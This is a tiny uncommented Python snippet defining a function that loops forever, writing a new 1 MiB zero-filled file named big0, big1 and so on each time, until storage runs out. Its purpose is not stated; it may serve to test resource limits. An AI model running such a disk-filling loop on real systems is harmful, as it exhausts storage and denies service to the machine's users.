def f(x):
    number = 0
    while True:
        with open(f"big{number}", "wb") as file:
            file.write(bytes(1 << 20))
        number += 1
